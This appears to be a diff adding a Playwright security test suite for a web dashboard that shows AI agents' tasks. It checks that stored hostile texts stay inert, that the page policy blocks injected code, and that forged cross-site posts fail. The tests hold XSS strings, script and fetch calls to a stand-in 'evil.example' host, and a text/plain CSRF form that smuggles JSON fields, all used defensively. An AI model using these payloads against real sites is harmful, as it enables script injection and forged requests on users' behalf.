@@ -1,0 +1,130 @@
+"""Texts of agents stay texts, and only the page itself can use what a browser was trusted with."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.web.conftest import call
+from tests.web.stories import PAYLOADS
+
+TABS = ("plan", "timeline", "memory", "work", "thread", "packet", "time")
+# What no page of ours has: code, frames and pictures from elsewhere, handlers, links out.
+STRANGE = """() => [...document.querySelectorAll(
+    'script:not([src^="/assets/"]), iframe, object, embed, base, link:not([href^="/assets/"]), b, [onerror],'
+    + '[onload], img:not([src$="favicon.svg"]), a[href^="javascript"],'
+    + 'a[href^="http"]:not([href^="' + location.origin + '"])'
+)].map(node => node.outerHTML)"""
+
+
+def test_hostile_texts_are_inert_on_every_screen(site, visit):
+    window = visit(site)
+    foreign = []
+    page = window.page
+    page.on("request", lambda one: one.url.startswith(site.url) or foreign.append(one.url))
+    page.on("dialog", lambda dialog: foreign.append(dialog.message))
+    task = site.told["hostile"]
+    places = ["/", "/search?q=hacked", "/recovery", "/system", *(f"/task/{task}?tab={tab}" for tab in TABS)]
+    for place in [*places, f"/task/{task}?tab=timeline&seq=9", f"/?text={PAYLOADS[1]}", f"/{PAYLOADS[1]}"]:
+        window.open(place)
+        expect(page.locator(".loading")).to_have_count(0)
+        if place.startswith(("/task", "/search")):
+            expect(page.locator("main")).to_contain_text("window.hacked")
+        for button in page.locator(".step .title, .variable button, .hit button").all()[:4]:
+            button.click()
+        assert page.evaluate(STRANGE) == [], place
+        assert page.evaluate("window.hacked") is None, place
+    assert foreign == []
+
+
+def visible(text):
+    """A text as the page shows it: what nobody would see is named."""
+    return re.sub("[\x1b\u202a-\u202e]", lambda found: f"⟨U+{ord(found[0]):04X}⟩", text)
+
+
+def test_a_text_of_each_kind_is_shown_as_it_is(site, visit):
+    page = visit(site).open(f"/task/{site.told['hostile']}?tab=thread")
+    page.locator(".message").first.wait_for()
+    shown = page.locator(".message .said").all_text_contents()
+    for text in PAYLOADS:
+        assert visible(text) in shown
+
+
+def test_the_page_cannot_be_made_to_run_or_fetch_what_is_not_ours(site, visit):
+    """A positive control: the policy itself stops what no code of ours would do."""
+    window = visit(site)
+    page = window.open()
+    for attempt in (
+        "document.body.innerHTML = '<img src=x onerror=hacked()>'",
+        "document.createElement('script').text = 'window.hacked = 1'",
+        "document.createElement('script').src = 'https://evil.example/x.js'",
+        "document.body.setAttribute('onclick', 'window.hacked = 1')",
+    ):
+        tried = f"() => {{ try {{ {attempt}; return 'done' }} catch {{ return 'stopped' }} }}"
+        assert page.evaluate(tried) == "stopped", attempt
+    picture = "new Promise(done => Object.assign(new Image(), {onload: done, onerror: () => done('stopped'),"
+    assert page.evaluate(picture + " src: 'https://evil.example/x.png'}))") == "stopped"
+    assert page.evaluate("fetch('https://evil.example/').then(() => 'done', () => 'stopped')") == "stopped"
+    assert page.evaluate("window.hacked") is None
+    assert page.evaluate("document.cookie") == ""
+    assert window.complaints  # the browser says so
+    window.complaints.clear()
+
+
+@pytest.mark.parametrize("path", ["api/task_register", "api/session"])
+def test_another_page_cannot_write_with_the_cookie(site, visit, browser, path):
+    """A form on another port of the same host: the browser would send the cookie along."""
+    import http.server
+    import threading
+
+    form = f"""<form method=post enctype=text/plain action="{site.url}{path}">
+        <input name='{{"name":"forged","a":"' value='"}}'></form>
+        <script>document.forms[0].submit()</script>""".encode()
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(form)
+
+        def log_message(self, *words):
+            pass
+
+    before = len(call(site, "task_list", token="read", status="all", workspace="*")["tasks"])
+    with http.server.HTTPServer(("127.0.0.1", 0), Handler) as evil:
+        thread = threading.Thread(target=evil.serve_forever)
+        thread.start()
+        try:
+            window = visit(site)
+            page = window.page.context.new_page()
+            with page.expect_response(f"**/{path}") as answered:
+                page.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
+            assert answered.value.status == 403
+        finally:
+            evil.shutdown()
+            thread.join()
+    assert len(call(site, "task_list", token="read", status="all", workspace="*")["tasks"]) == before
+
+
+def test_signing_out_ends_the_session(site, visit):
+    page = visit(site).open()
+    (cookie,) = page.context.cookies()
+    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
+    assert not any(token in cookie["value"] for token in site.tokens.values())
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_label("Token")).to_be_visible()
+    page.context.add_cookies([cookie])
+    page.reload()
+    expect(page.get_by_label("Token")).to_be_visible()
+
+
+def test_a_wrong_token_is_told_with_what_to_do(site, visit):
+    page = visit(site, kind=None).page
+    page.goto(site.url)
+    page.get_by_label("Token").fill("hf_user_wrong")
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.get_by_role("alert")).to_contain_text("no_token")
+    expect(page.get_by_role("alert")).to_contain_text("Copy one from the file")
